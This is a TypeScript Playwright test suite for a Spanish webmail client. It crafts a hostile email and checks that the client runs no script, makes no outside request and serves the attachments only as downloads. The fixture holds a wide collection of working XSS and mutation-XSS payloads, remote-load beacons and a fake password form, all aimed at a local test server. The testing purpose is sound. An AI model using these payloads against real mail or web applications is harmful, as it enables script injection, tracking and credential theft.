// Mails that want to run, call home or be somebody else: opened as an agent opens them.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { readFile } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { after, before } from 'node:test';
import type { FrameLocator, Page } from 'playwright-core';
import { expectAccessibleEverywhere, journey, listenForTrouble, mailboxAddress, type Office, openOffice } from '../world/office.ts';

const test = journey();
const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const pictures = 43;

let office: Office;
let page: Page;
let trouble: { readonly said: string[] };
let elsewhere: Server;
const calls: string[] = [];
const requests: string[] = [];
const dialogs: string[] = [];

before(async () => {
  elsewhere = createServer((request, answer) => {
    calls.push(request.url ?? '');
    answer.end('aquí estuvo');
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  const home = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  office = await openOffice();
  await office.raw(hostile(home), '2026-11-24T09:00:00-04:00');
  await office.raw(illustrated(), '2026-11-24T09:30:00-04:00');
  page = await office.page({ as: await office.colleague('Wilkin Santana', 'operator'), acceptDownloads: true });
  trouble = listenForTrouble(page);
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.context().on('request', (request) => requests.push(request.url()));
  await page.goto('/bandeja');
});
after(async () => {
  elsewhere?.close();
  await office?.close();
});

/** Everything that is known to be tried, all of it pointing at a place that would notice. */
function hostile(home: string): string {
  const html = `<html><head>
<meta http-equiv="refresh" content="0;url=${home}/refresh">
<base href="${home}/base/"><link rel="stylesheet" href="${home}/style.css"><link rel="prefetch" href="${home}/prefetch">
<style>@import url('${home}/import.css'); @font-face { font-family: x; src: url(${home}/font) } body { background: url(${home}/css.png); font-family: x }
#cover { position: fixed; inset: 0; z-index: 9999; background: #fff }</style>
<script>parent.pwned = 'script'; alert(1); fetch('${home}/script')</script></head>
<body onload="parent.pwned='onload'" background="${home}/background.png">
<p>Buenos días, adjunto lo pedido.</p>
<script src="${home}/outside.js"></script>
<img src="x" onerror="parent.pwned='onerror';alert(2)"><img src="${home}/pixel.gif" srcset="${home}/2x.gif 2x" width="1" height="1">
<svg onload="parent.pwned='svg'"><script>alert(3)</script><image href="${home}/svg.png"/><use href="${home}/use.svg#a"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(4)&gt;"></mglyph></table></mtext></math>
<iframe src="javascript:parent.pwned='iframe'"></iframe><iframe srcdoc="<script>alert(5)</script>"></iframe><iframe src="${home}/frame"></iframe>
<object data="${home}/object"></object><embed src="${home}/embed">
<form action="${home}/form"><input name="clave" placeholder="Escriba su clave"><button formaction="${home}/form2">Entrar</button></form>
<a href="javascript:parent.pwned='link'">Ver mi solicitud</a>
<a href="data:text/html,<script>alert(6)</script>">Ver datos</a>
<div id="cover" style="background-image:url(${home}/inline.png);behavior:url(${home}/htc)" onmouseover="alert(7)">Pulse aquí</div>
<video src="${home}/video" poster="${home}/poster" autoplay></video><audio src="${home}/audio" autoplay></audio>
<details open ontoggle="alert(8)"><summary>Más</summary></details><input autofocus onfocus="alert(9)">
<noscript><p title="</noscript><img src=x onerror=alert(10)>"></noscript>
</body></html>`;
  return crlf([
    'From: "Banco <script>alert(11)</script>" <cobros@correo.example>',
    `To: ${mailboxAddress}`,
    'Subject: Factura "><img src=x onerror=alert(12)>',
    'Message-ID: <hostil-1@correo.example>',
    'Date: Tue, 24 Nov 2026 09:00:00 -0400',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="m"',
    '',
    '--m',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    folded(Buffer.from(html).toString('base64')),
    '--m',
    'Content-Type: text/html; name="factura.html"',
    'Content-Disposition: attachment; filename="factura.html"',
    '',
    '<script>alert(13)</script>',
    '--m',
    'Content-Type: image/svg+xml; name="sello.svg"',
    'Content-Disposition: attachment; filename="sello.svg"',
    '',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(14)</script></svg>',
    '--m--',
  ]);
}

function illustrated(): string {
  const numbers = Array.from({ length: pictures }, (_, index) => index + 1);
  return crlf([
    'From: Ana Tavares <ana.tavares@correo.example>',
    `To: ${mailboxAddress}`,
    'Subject: Capturas de la plataforma',
    'Message-ID: <capturas-1@correo.example>',
    'Date: Tue, 24 Nov 2026 09:30:00 -0400',
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary="r"',
    '',
    '--r',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<p>Le muestro cada paso.</p>${numbers.map((n) => `<p>Paso ${n}</p><img src="cid:paso${n}@correo.example" width="40" height="40">`).join('\r\n')}`,
    ...numbers.flatMap((n) => [
      '--r',
      `Content-Type: image/png; name="paso${n}.png"`,
      'Content-Transfer-Encoding: base64',
      `Content-ID: <paso${n}@correo.example>`,
      `Content-Disposition: inline; filename="paso${n}.png"`,
      '',
      pixel,
    ]),
    '--r--',
  ]);
}

const crlf = (lines: readonly string[]): string => lines.join('\r\n').replace(/(?<!\r)\n/g, '\r\n');
const folded = (text: string): string => text.replace(/.{76}/g, '$&\r\n');

async function open(subject: string): Promise<FrameLocator> {
  await page.getByRole('option').filter({ hasText: subject }).click();
  const withFormat = page.getByRole('button', { name: 'Ver con formato' });
  const frame = page.locator('iframe');
  await frame.or(withFormat).first().waitFor();
  if (await withFormat.isVisible()) await withFormat.click();
  await frame.waitFor();
  return page.frameLocator('iframe');
}

/** What tries to call home does so while it loads or soon after; there is no event for what never happens. */
async function settle(): Promise<void> {
  for (const frame of page.frames()) await frame.waitForLoadState('load');
  await page.waitForTimeout(700);
}

function expectNothingHappened(): void {
  const ours = new URL(page.url()).origin;
  assert.deepEqual(dialogs, []);
  assert.deepEqual(calls, [], 'nobody elsewhere was asked');
  assert.deepEqual(
    requests.filter((url) => !url.startsWith(ours) && !url.startsWith('data:')),
    [],
  );
}

test('a mail that wants to run a script shows its words and runs nothing', async () => {
  const frame = await open('Factura');
  await frame.getByText('Buenos días, adjunto lo pedido.').waitFor();
  await settle();
  assert.equal(await page.evaluate('window.pwned'), undefined);
  for (const element of [
    'script',
    'iframe',
    'object',
    'embed',
    'form',
    'input',
    'svg',
    'base[href]',
    'link',
    'meta[http-equiv=refresh]',
    'video',
  ])
    assert.equal(await frame.locator(element).count(), 0, element);
  assert.equal(await frame.locator('a[href^="javascript:"], a[href^="data:"]').count(), 0);
  expectNothingHappened();
});

test('the names it gives itself are only letters', async () => {
  await page.getByRole('heading', { level: 2, name: 'Factura "><img src=x onerror=alert(12)>' }).waitFor();
  assert.equal(await page.locator('main img').count(), 0);
  await expectAccessibleEverywhere(page);
  expectNothingHappened();
});

test('its frame can do nothing: sandboxed by the page, and by the answer itself when opened alone', async () => {
  const frame = page.locator('iframe');
  assert.equal(await frame.getAttribute('sandbox'), 'allow-popups allow-popups-to-escape-sandbox');
  assert.equal(await frame.getAttribute('referrerpolicy'), 'no-referrer');
  const answer = await page.request.get((await frame.getAttribute('src')) as string);
  const policy = answer.headers()['content-security-policy'] ?? '';
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /sandbox allow-popups allow-popups-to-escape-sandbox(;|$)/);
  assert.doesNotMatch(policy, /script-src|connect-src|form-action [^']/);
  const alone = await page.context().newPage();
  await alone.goto((await frame.getAttribute('src')) as string);
  assert.equal(await alone.evaluate('origin'), 'null');
  await alone.close();
  expectNothingHappened();
});

test('what it brought is saved, not opened', async () => {
  for (const name of ['factura.html', 'sello.svg']) {
    const href = (await page.getByRole('link', { name }).getAttribute('href')) as string;
    const { headers } = { headers: (await page.request.get(href)).headers() };
    assert.match(headers['content-disposition'] ?? '', /^attachment/, name);
    assert.equal(headers['x-content-type-options'], 'nosniff');
    assert.match(headers['content-security-policy'] ?? '', /sandbox/);
  }
});

test('the original is one click away, byte for byte, and is never shown as a page', async () => {
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Ver original' }).click()]);
  assert.match(download.suggestedFilename(), /\.eml$/);
  const bytes = await readFile(await download.path());
  assert.ok(bytes.toString().startsWith('From: "Banco <script>'), 'the mail as it came');
  const href = (await page.getByRole('link', { name: 'Ver original' }).getAttribute('href')) as string;
  const headers = (await page.request.get(href)).headers();
  assert.match(headers['content-disposition'] ?? '', /^attachment/);
  assert.doesNotMatch(headers['content-type'] ?? '', /html/);
});

test(`${pictures} pictures inside a mail are all shown, from here`, async () => {
  const frame = await open('Capturas de la plataforma');
  await frame.getByText(`Paso ${pictures}`, { exact: true }).waitFor();
  const images = frame.locator('img');
  assert.equal(await images.count(), pictures);
  for (const image of await images.all()) await image.evaluate((one: { decode(): Promise<void> }) => one.decode());
  expectNothingHappened();
  assert.deepEqual(trouble.said, []);
});
